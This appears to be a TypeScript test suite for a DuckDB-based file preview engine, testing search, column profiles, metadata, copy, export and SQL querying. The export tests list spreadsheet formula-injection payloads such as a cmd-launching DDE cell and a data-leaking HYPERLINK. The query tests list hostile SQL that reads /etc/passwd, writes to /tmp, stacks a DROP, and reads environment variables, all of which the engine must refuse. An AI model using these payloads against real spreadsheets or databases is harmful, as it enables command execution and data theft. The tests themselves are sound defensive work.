// What can be asked of an opened file besides its pages: find, profiles, metadata, copy, export, queries.
import assert from 'node:assert/strict';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import type { Filter, View } from '../../../../src/engine/insight/preview/api';
import { quoteLiteral } from '../../../../src/engine/base';
import { indentJson } from '../../../../src/engine/insight/preview/indent';
import { failure, PLAIN, usePreviews, withConnection } from './previewFixture';

describe('an opened preview', () => {
  const { at, folder, writeParquet, open, cells, query, previews } = usePreviews();
  const filter = (...filters: Filter[]): View => ({ sort: [], filters });

  describe('finds', () => {
    const views: Readonly<Record<string, View>> = {
      'in the file': PLAIN,
      'in a filtered view': filter({ column: 'k', kind: 'compare', operator: '<', value: '5' }),
      'in a sorted view': { sort: [{ column: 'k', descending: true }], filters: [] },
      'in a sorted and filtered view': {
        sort: [{ column: 'v', descending: false }],
        filters: [{ column: 'k', kind: 'compare', operator: '>', value: '2' }],
      },
    };
    for (const [where, view] of Object.entries(views))
      it(`the next and the one before, round the end, ${where}`, async () => {
        const path = await writeParquet(
          'a.parquet',
          `SELECT i AS id, i % 9 AS k, 'V' || (i * 7919) % 2000 AS v FROM range(4000) t(i)`,
        );
        const { session } = await open(path);
        const all = await cells(session, view);
        for (const text of ['v1999', '77', 'V5', 'nowhere'])
          for (const from of [0, 1, 17, 999, all.length - 1, all.length + 50])
            for (const backwards of [false, true]) {
              const start = Math.min(from, all.length - 1);
              const order = all.map((_, i) => (start + (backwards ? -i : i) + 2 * all.length) % all.length);
              const hit = (cell: unknown): boolean => String(cell).toLowerCase().includes(text.toLowerCase());
              const position = order.find((i) => all[i]?.some(hit));
              const column = ['id', 'k', 'v'][all[position ?? -1]?.findIndex(hit) ?? -1];
              const found = await session.find({ view, text, case: false, from, backwards }, {});
              assert.deepEqual(
                found,
                position === undefined ? null : { position, column },
                `${text} from ${from} ${backwards ? 'up' : 'down'}`,
              );
            }
        assert.equal(
          await session.find({ view, text: 'v1', case: true, from: 0, backwards: false }, {}),
          null,
        );
        assert.equal(await session.find({ view, text: '', case: true, from: 0, backwards: false }, {}), null);
      });

    it('nothing once it is cancelled, and goes on', async () => {
      const { session } = await open(
        await writeParquet('a.parquet', 'SELECT md5(i::VARCHAR) AS v FROM range(300000) t(i)'),
      );
      const control = new AbortController();
      const request = { view: PLAIN, text: 'not there', case: false, from: 0, backwards: false };
      const found = failure(session.find(request, { signal: control.signal }));
      control.abort();
      assert.equal((await found).code, 'CANCELLED');
      assert.equal(await session.find(request, {}), null);
    });
  });

  describe('profiles', () => {
    it('numbers, dates, text: what DuckDB counts, whole bins, the most frequent first', async () => {
      const path = await writeParquet(
        'a.parquet',
        `SELECT i % 100 AS n, CASE WHEN i % 4 = 0 THEN NULL ELSE 'v' || i % 3 END AS v,
          DATE '2024-01-01' + (i % 10)::INTEGER AS d, CASE WHEN i = 5 THEN 'inf'::DOUBLE ELSE i / 7 END AS x,
          i AS id, TIME '10:00:00' + to_seconds(i % 60) AS t, -i::HUGEINT AS huge FROM range(1200) t(i)`,
      );
      const { session } = await open(path);
      const profile = (column: string, view = PLAIN): ReturnType<typeof session.profile> =>
        session.profile({ view, column }, {});
      const n = await profile('n');
      assert.deepEqual(
        [n.rows, n.nulls, n.distinct, n.min, n.max, n.mean],
        [1200, 0, 100, '0', '99', '49.5'],
      );
      assert.equal(
        n.histogram.reduce((sum, bin) => sum + bin.rows, 0),
        1200,
      );
      assert.deepEqual(n.histogram[0], { from: '0', to: '4', rows: 48 });
      const v = await profile('v');
      assert.deepEqual([v.nulls, v.distinct, v.histogram.length, v.mean], [300, 3, 0, null]);
      assert.deepEqual(v.top, [
        { value: 'v0', rows: 300 },
        { value: 'v1', rows: 300 },
        { value: 'v2', rows: 300 },
        { value: null, rows: 300 },
      ]);
      const d = await profile('d');
      assert.deepEqual([d.min, d.max, d.histogram.length], ['2024-01-01', '2024-01-10', 10]);
      assert.deepEqual(d.histogram[9], { from: '2024-01-10', to: '2024-01-11', rows: 120 });
      const x = await profile('x');
      assert.deepEqual([x.max, x.histogram.length], ['inf', 30]);
      assert.equal(
        x.histogram.reduce((sum, bin) => sum + bin.rows, 0),
        1199,
      );
      assert.deepEqual((await profile('id')).top, []);
      assert.equal((await profile('t')).histogram.length, 30);
      assert.equal((await profile('huge')).min, '-1199.0');
      const some = await profile('n', filter({ column: 'v', kind: 'in', values: ['v1'] }));
      assert.equal(some.rows, 300);
      assert.equal((await failure(profile('nope'))).code, 'NOT_FOUND');
    });
  });

  describe('tells its metadata', () => {
    it('of Parquet: facts, leaves of nested columns, statistics compared as numbers, properties', async () => {
      await withConnection(folder(), (connection) =>
        connection.run(
          `COPY (SELECT i AS n, 'v' || i AS v, {'a': i, 'b': [i]} AS s FROM range(5000) t(i))
          TO '${at('a.parquet')}' (FORMAT parquet, ROW_GROUP_SIZE 2048, COMPRESSION zstd, KV_METADATA {note: 'it''s'})`,
        ),
      );
      const { session } = await open(at('a.parquet'));
      const metadata = await session.metadata({});
      assert.deepEqual(
        metadata.columns.map((column) => [column.name, column.physical, column.compression, column.nulls]),
        [
          ['n', 'INT64', 'ZSTD', 0],
          ['v', 'BYTE_ARRAY', 'ZSTD', 0],
          ['s.a', 'INT64', 'ZSTD', 0],
          ['s.b.list.element', 'INT64', 'ZSTD', 0],
        ],
      );
      assert.deepEqual([metadata.columns[0]?.min, metadata.columns[0]?.max], ['0', '4999']);
      assert.equal(metadata.rowGroups, 3);
      assert.deepEqual(metadata.properties, [{ key: 'note', value: "it's" }]);
      const fact = (name: string): string | undefined =>
        metadata.facts.find((one) => one.name === name)?.value;
      assert.equal(fact('Rows'), '5,000');
      assert.match(fact('Created by') ?? '', /DuckDB/);
    });

    it('of text: how it was read', async () => {
      await writeFile(at('a.csv'), 'a;b\n1;2\n');
      const metadata = await (await open(at('a.csv'))).session.metadata({});
      assert.match(
        metadata.facts.find((one) => one.name === 'Delimiter')?.value ?? '',
        /^semicolon \(\d+% sure\)$/,
      );
      assert.deepEqual(metadata.columns, []);
    });
  });

  describe('copies', () => {
    const odd = `SELECT * FROM (VALUES (1, 'a"b,c', NULL, [1, 2]), (2, E'two\\nlines|<b>*', '', NULL)) t(n, v, "e,1", l)`;
    const columns = ['n', 'v', 'e,1', 'l'];
    const texts = {
      csv: 'n,v,"e,1",l\r\n1,"a""b,c",,"[1,2]"\r\n2,"two\nlines|<b>*","",\r\n',
      tsv: 'n\tv\te,1\tl\n1\t"a""b,c"\t\t[1,2]\n2\t"two\nlines|<b>*"\t""\t\n',
      json: '[\n  {"n": 1, "v": "a\\"b,c", "e,1": null, "l": [1,2]},\n  {"n": 2, "v": "two\\nlines|<b>*", "e,1": "", "l": null}\n]\n',
      markdown:
        '| n | v | e,1 | l |\n| ---: | --- | --- | --- |\n| 1 | a"b,c |  | \\[1,2\\] |\n| 2 | two<br>lines\\|\\<b\\>\\* |  |  |\n',
    } as const;
    for (const [format, text] of Object.entries(texts) as [keyof typeof texts, string][])
      it(`as ${format} that reads back`, async () => {
        const { session } = await open(await writeParquet('a.parquet', odd));
        const copied = await session.copy(
          { view: PLAIN, offset: 0, limit: 100, columns, format, header: true },
          {},
        );
        assert.deepEqual(copied, { text, rows: 2, neutralized: 0 });
      });

    it('whole values, many rows in the order of the view, and refuses what is too much', async () => {
      const path = await writeParquet(
        'a.parquet',
        `SELECT i AS id, repeat('x', 2000) AS v FROM range(40000) t(i)`,
        122_880,
      );
      const { session } = await open(path);
      const view: View = { sort: [{ column: 'id', descending: true }], filters: [] };
      const ask = { view, offset: 1, limit: 12_000, format: 'csv', header: false } as const;
      const { text, rows } = await session.copy({ ...ask, columns: ['id'] }, {});
      assert.equal(rows, 12_000);
      assert.deepEqual(text.split('\r\n').slice(0, 2), ['39998', '39997']);
      const one = await session.copy({ ...ask, limit: 1, columns: ['v'] }, {});
      assert.equal(one.text.trim().length, 2_000);
      assert.equal(
        (await failure(session.copy({ ...ask, view: PLAIN, limit: 100_000, columns: ['v'] }, {}))).code,
        'USAGE',
      );
      assert.equal(
        (await failure(session.copy({ ...ask, limit: 100_001, columns: ['id'] }, {}))).code,
        'USAGE',
      );
    });
  });

  describe('exports', () => {
    const rows = `SELECT i AS id, 'v' || i AS v, [i] AS list, 'x'::BLOB AS b FROM range(5000) t(i)`;
    const view: View = {
      sort: [{ column: 'id', descending: true }],
      filters: [{ column: 'id', kind: 'compare', operator: '<', value: '3000' }],
    };
    const read: Readonly<Record<string, string>> = {
      csv: `read_csv('%', all_varchar = true)`,
      json: `read_json('%')`,
      parquet: `read_parquet('%')`,
    };
    for (const [format, reader] of Object.entries(read) as ['csv' | 'json' | 'parquet', string][])
      it(`the view to ${format}, and replaces what was there`, async () => {
        const { session } = await open(await writeParquet('a.parquet', rows));
        const target = at(`o'ut *.${format}`);
        await writeFile(target, 'old');
        const written = await session.export({ view, format, target, columns: ['v', 'id'] }, {});
        assert.equal(written.rows, 3000);
        const found = await withConnection(folder(), (connection) =>
          connection.table(
            `SELECT * FROM ${reader.replace('%', target.replace("'", "''").replace('*', '[*]'))}`,
          ),
        );
        assert.deepEqual(
          found.columns.map((column) => column.name),
          ['v', 'id'],
        );
        assert.deepEqual(found.rows[0]?.map(String), ['v2999', '2999']);
        assert.equal(found.rows.length, 3000);
        assert.deepEqual((await readdir(folder())).sort(), ['a.parquet', `o'ut *.${format}`]);
      });

    /** Cells, whether a spreadsheet would compute them, and what a person's CSV has of them. */
    const CELLS: readonly (readonly [string, string])[] = [
      ['=1+1', "'=1+1"],
      ['=HYPERLINK("http://x/?"&A1)', `'=HYPERLINK("http://x/?"&A1)`],
      ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
      ['-1+1', "'-1+1"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['  =1+1', "'  =1+1"],
      ['\u00a0\u200b=1+1', "'\u00a0\u200b=1+1"],
      ['\tx', "'\tx"],
      ['\rx', "'\rx"],
      ['＝1+1', "'＝1+1"],
      ['－1+1', "'－1+1"],
      ['+49 30 1234', "'+49 30 1234"],
      ['-', '-'],
      ['-5.2', '-5.2'],
      ['+49301234', '+49301234'],
      ['-1,000.5e-3', '-1,000.5e-3'],
      ['-12 %', '-12 %'],
      ["'=1", "'=1"],
      ['a=1', 'a=1'],
      ['', ''],
    ];
    it('CSV for people: nothing in it is computed by a spreadsheet, and it says how many cells it changed', async () => {
      const values = CELLS.map(([cell], i) => `(${i}, ${quoteLiteral(cell)}, -${i})`).join(', ');
      const { session } = await open(
        await writeParquet('a.parquet', `SELECT * FROM (VALUES ${values}) t(i, "=name", n) ORDER BY i`),
      );
      const changed = CELLS.filter(([cell, shown]) => cell !== shown).length + 1;
      const request = { view: PLAIN, format: 'csv', target: at('out.csv') } as const;
      const exactly = async (work: () => Promise<{ readonly neutralized: number }>): Promise<number> =>
        (await work()).neutralized;
      const readBack = (text: string): unknown =>
        withConnection(folder(), async (connection) => {
          await writeFile(at('back.csv'), text);
          const { rows: found, columns: names } = await connection.table(
            `SELECT * FROM read_csv('${at('back.csv')}', all_varchar = true, header = true, delim = ',', quote = '"', escape = '"', strict_mode = false)`,
          );
          return [names[1]?.name, ...found.map((row) => row[1] ?? '')];
        });
      assert.equal(await exactly(() => session.export(request, {})), changed);
      const safe = ["'=name", ...CELLS.map(([, shown]) => shown)];
      assert.deepEqual(await readBack(await readFile(at('out.csv'), 'utf8')), safe);
      assert.equal(await exactly(() => session.export({ ...request, exact: true }, {})), 0);
      const asIs = ['=name', ...CELLS.map(([cell]) => cell)];
      assert.deepEqual(await readBack(await readFile(at('out.csv'), 'utf8')), asIs);
      const copy = {
        view: PLAIN,
        offset: 0,
        limit: 100,
        columns: ['i', '=name', 'n'],
        header: true,
      } as const;
      const copied = await session.copy({ ...copy, format: 'csv' }, {});
      assert.equal(copied.neutralized, changed);
      assert.deepEqual(await readBack(copied.text), safe);
      assert.equal((await session.copy({ ...copy, format: 'tsv' }, {})).neutralized, changed);
      const exact = await session.copy({ ...copy, format: 'csv', exact: true }, {});
      assert.equal(exact.neutralized, 0);
      assert.deepEqual(await readBack(exact.text), asIs);
    });

    it('Markdown, text files, queries', async () => {
      await writeFile(at('a.csv'), 'id,name\n1,a\n2,b,c\n3,d\n');
      const { session, opened } = await open(at('a.csv'));
      await session.export({ view: PLAIN, format: 'markdown', target: at('a.md') }, {});
      assert.equal(
        await readFile(at('a.md'), 'utf8'),
        '| id | name |\n| --- | --- |\n| 1 | a |\n| 2 | b |\n| 3 | d |\n',
      );
      const sql = await query(opened.handle, 'SELECT id::INTEGER AS id FROM file');
      await sql.session.export({ view: PLAIN, format: 'csv', target: at('q.csv') }, {});
      assert.equal(await readFile(at('q.csv'), 'utf8'), 'id\n1\n2\n3\n');
    });

    it('never over the file that is shown, nor to what is no file', async () => {
      const path = await writeParquet('a.parquet', rows);
      const { session } = await open(path);
      const refused = async (target: string): Promise<string> =>
        (await failure(session.export({ view: PLAIN, format: 'csv', target }, {}))).code;
      assert.equal(await refused(path), 'USAGE');
      assert.equal(await refused(folder()), 'USAGE');
      assert.equal(await refused('relative.csv'), 'USAGE');
      assert.equal(await refused(at('none/out.csv')), 'NOT_FOUND');
      assert.deepEqual(await readdir(folder()), ['a.parquet']);
    });

    it('nothing when it is cancelled: what was there stays', async () => {
      const { session } = await open(await writeParquet('a.parquet', rows));
      await writeFile(at('out.csv'), 'old');
      const control = new AbortController();
      const work = failure(
        session.export({ view, format: 'csv', target: at('out.csv') }, { signal: control.signal }),
      );
      control.abort();
      assert.equal((await work).code, 'CANCELLED');
      assert.equal(await readFile(at('out.csv'), 'utf8'), 'old');
      assert.deepEqual((await readdir(folder())).sort(), ['a.parquet', 'out.csv']);
    });
  });

  describe('is queried', () => {
    it('with the first rows at once where they come in the order of the file, then all of them', async () => {
      const file = await open(await writeParquet('a.parquet', 'SELECT i AS id FROM range(20000) t(i)', 4096));
      const { session, opened } = await query(
        file.opened.handle,
        'SELECT id * 2 AS twice FROM rows WHERE id % 2 = 0;',
      );
      assert.equal(opened.total, null);
      const all = await cells(session, PLAIN, 700);
      assert.equal(all.length, 10_000);
      assert.deepEqual([all[0], all[9_999]], [['0'], ['39996']]);
      assert.equal(await session.count(PLAIN, {}), 10_000);
      await previews().close(file.opened.handle);
      assert.deepEqual((await session.page({ view: PLAIN, offset: 9_999, limit: 1 }, {})).rows, [
        { row: null, cells: ['39996'] },
      ]);
      const nested = await query(opened.handle, 'SELECT max(twice) AS m, 1 AS m FROM file');
      assert.deepEqual(
        nested.opened.columns.map((column) => column.name),
        ['m', 'm_1'],
      );
      assert.deepEqual(await cells(nested.session, PLAIN), [['39996', '1']]);
    });

    it('with types that Parquet does not know', async () => {
      const file = await open(await writeParquet('a.parquet', 'SELECT 1 AS id'));
      const { session } = await query(
        file.opened.handle,
        `SELECT sum(9007199254740993::BIGINT) AS h, INTERVAL 5 MINUTE AS i, '101'::BIT AS b, NULL AS n, 7::UHUGEINT AS u,
          'a'::ENUM ('a', 'b') AS e, ['x'] AS l, '10:00:00+02'::TIMETZ AS t FROM file`,
      );
      assert.deepEqual(await cells(session, PLAIN), [
        ['9007199254740993', '00:05:00', '101', null, '7', 'a', '["x"]', '10:00:00+02'],
      ]);
    });

    for (const sql of [
      `SELECT * FROM read_csv('/etc/passwd')`,
      `SELECT * FROM '/etc/passwd'`,
      `COPY file TO '/tmp/m7-out.csv'`,
      'SELECT 1; DROP VIEW file',
      `SELECT getenv('HOME') FROM file`,
      'SELECT nothing FROM file',
      'SELECT * FROM file WHERE',
      'SELECT 1) FROM file --',
      '',
    ])
      it(`and refuses ${sql === '' ? 'nothing' : sql}`, async () => {
        const file = await open(await writeParquet('a.parquet', 'SELECT 1 AS id'));
        const error = await failure(previews().query(file.opened.handle, sql, {}));
        assert.equal(error.code, 'SQL_INVALID');
        assert.deepEqual(await cells(file.session, PLAIN), [['1']]);
      });

    it('and tells what fails while it runs', async () => {
      const file = await open(await writeParquet('a.parquet', `SELECT 'x' AS v`));
      const error = await failure(
        previews().query(file.opened.handle, 'SELECT CAST(v AS INTEGER) AS n FROM file', {}),
      );
      assert.match(error.message, /Could not convert string/);
      assert.equal(error.code, 'SQL_INVALID');
    });
  });

  it('indents JSON as it stands', () => {
    assert.equal(
      indentJson('{"a":[1,{"b":"x,{\\"y"}],"e":[],"o":{}}'),
      '{\n  "a": [\n    1,\n    {\n      "b": "x,{\\"y"\n    }\n  ],\n  "e": [],\n  "o": {}\n}',
    );
    assert.equal(indentJson('[Infinity,NaN]'), '[\n  Infinity,\n  NaN\n]');
  });
});
